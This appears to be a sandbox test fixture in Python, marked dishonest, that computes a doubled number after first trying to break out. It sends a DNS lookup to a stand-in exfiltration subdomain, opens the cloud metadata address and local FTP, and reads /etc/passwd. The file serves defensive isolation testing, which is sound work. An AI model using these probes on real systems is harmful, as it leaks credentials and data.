# /// tockbox
# row = 64
# title = "names to resolve and addresses to open"
# honest = false
# kind = "stdio"
# stdin = "3\n"
# expected_stdout = "6\n"
# limits = { cpu_seconds = 4, wall_seconds = 10, memory_mib = 256, output_bytes = 65536 }
# verdicts = ["accepted"]
# stopped_by = "seccomp, empty network namespace"
# ///
import socket
import urllib.request

n = int(input())
won = []
try:
    won.append(str(socket.getaddrinfo("0123456789abcdef.exfiltration.example.com", 80)))
except OSError:
    pass
for url in (
    "http://example.com/",
    "https://example.org/simple/",
    "http://169.254.169.254/latest/meta-data/",
    "ftp://127.0.0.1/",
    "file:///etc/passwd",
):
    try:
        urllib.request.urlopen(url, timeout=0.5).close()
        won.append(url)
    except OSError:
        pass

print("ESCAPED: " + "; ".join(won) if won else n * 2)
